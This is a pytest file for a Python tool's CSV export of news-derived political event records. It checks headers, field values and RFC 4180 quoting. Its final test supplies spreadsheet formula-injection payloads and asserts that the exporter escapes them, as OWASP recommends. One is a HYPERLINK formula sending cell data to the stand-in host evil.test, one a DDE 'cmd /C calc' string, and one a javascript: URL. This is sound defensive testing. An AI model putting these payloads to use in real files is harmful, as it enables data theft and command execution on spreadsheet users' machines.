import csv
import io
from dataclasses import replace

from dateline.actors.values import Actor
from dateline.export import write_events
from dateline.export.flat import FLAT_COLUMNS


def _read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _write(events) -> str:
    stream = io.StringIO(newline="")
    assert write_events(events, stream, "csv") == len(events)
    return stream.getvalue()


def test_csv_format_writes_a_header_and_one_row_per_event(events):
    text = _write(events)
    assert text.splitlines()[0] == ",".join(FLAT_COLUMNS)
    rows = _read(text)
    assert [r["id"] for r in rows] == [e.id for e in events]
    assert text.endswith("\r\n")  # RFC 4180 line ends


def test_csv_format_multi_actor_event_exactly(pretoria_signing):
    [row] = _read(_write([pretoria_signing]))
    assert row == {
        "id": "a1b2c3d4e5f60718",
        "type": "SUPPORT",
        "mode": "",
        "quad_class": "1",
        "cameo": "05",
        "goldstein": "3.5",
        "status": "occurred",
        "date": "2022-11-02",
        "date_end": "",
        "date_precision": "day",
        "date_source": "expression",
        "actors": "ETH:GOV:Redwan Hussien;ETH:REB:Tigray People's Liberation Front",
        "recipients": "AU:IGO:African Union",
        "speaker": "",
        "place_name": "Pretoria",
        "place_country": "ZAF",
        "place_admin1": "ZA.06",
        "place_lat": "-25.7449",
        "place_lon": "28.1878",
        "place_source": "sentence",
        "place_geonameid": "964137",
        "killed": "",
        "injured": "",
        "displaced": "",
        "arrested": "",
        "size": "",
        "confidence": "0.92",
        "contexts": "diplomatic",
        "disagreements": "",
        "num_mentions": "3",
        "num_sources": "2",
        "num_articles": "3",
        "first_doc": "reuters0000000001",
        "first_file": "reuters_2022-11-02.html",
        "first_url": "https://www.reuters.com/world/africa/ethiopia-tigray-truce",
        "first_published": "2022-11-02T19:10",
        "first_outlet": "Reuters",
        "first_sentence": (
            "Ethiopia's government and Tigrayan forces signed an agreement in "
            "Pretoria on Wednesday to permanently silence the guns."
        ),
    }


def test_csv_format_protest_without_recipients_has_counts(nairobi_protest):
    [row] = _read(_write([nairobi_protest]))
    assert row["recipients"] == ""
    assert row["actors"] == "KEN:CVL"
    assert (row["size"], row["arrested"], row["killed"]) == ("3000", "48", "")
    assert (row["quad_class"], row["goldstein"]) == ("4", "-6.5")


def test_csv_format_range_and_disagreement(khartoum_strikes):
    [row] = _read(_write([khartoum_strikes]))
    assert (row["date"], row["date_end"]) == ("2023-04-15", "2023-04-17")
    assert row["disagreements"] == "killed: 56 | 97"
    assert (row["killed"], row["injured"]) == ("97", "595")
    assert (row["num_mentions"], row["num_sources"]) == ("2", "2")


def test_csv_format_quotes_commas_quotes_and_line_breaks(guterres_call):
    text = _write([guterres_call])
    assert '""every effort""' in text  # RFC 4180 doubles the quote
    [row] = _read(text)
    assert row["first_sentence"] == guterres_call.mentions[0].sentence
    assert row["first_url"] == "" and row["first_published"] == ""
    assert row["speaker"] == "Volodymyr Zelensky"
    assert row["date"] == "2022-03-01" and row["date_precision"] == "month"


def test_csv_format_writes_the_header_for_no_events():
    assert _read(_write([])) == []
    assert _write([]).startswith("id,type,mode,")


def test_csv_format_every_column_is_documented():
    from pathlib import Path

    doc = (Path(__file__).resolve().parents[2] / "docs" / "export.md").read_text()
    assert [c for c in FLAT_COLUMNS if f"`{c}`" not in doc] == []


def test_csv_format_escapes_formulas_as_owasp_recommends(pretoria_signing):
    hostile = replace(
        pretoria_signing,
        actors=(Actor("ETH", "GOV", "Redwan Hussien"),),
        mentions=(
            replace(
                pretoria_signing.mentions[0],
                sentence='=HYPERLINK("http://evil.test/?x="&A1, "Click")',
                outlet="@SUM(1+1)*cmd|' /C calc'!A0",
                file="-2+3.html",
                url="\tjavascript:alert(1)",
            ),
        ),
    )
    [row] = _read(_write([hostile]))
    assert row["first_sentence"] == '\'=HYPERLINK("http://evil.test/?x="&A1, "Click")'
    assert row["first_outlet"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["first_file"] == "'-2+3.html"
    assert row["first_url"] == "'\tjavascript:alert(1)"
    # Numbers stay numbers.
    assert (row["place_lat"], row["goldstein"]) == ("-25.7449", "3.5")
    assert row["actors"] == "ETH:GOV:Redwan Hussien"
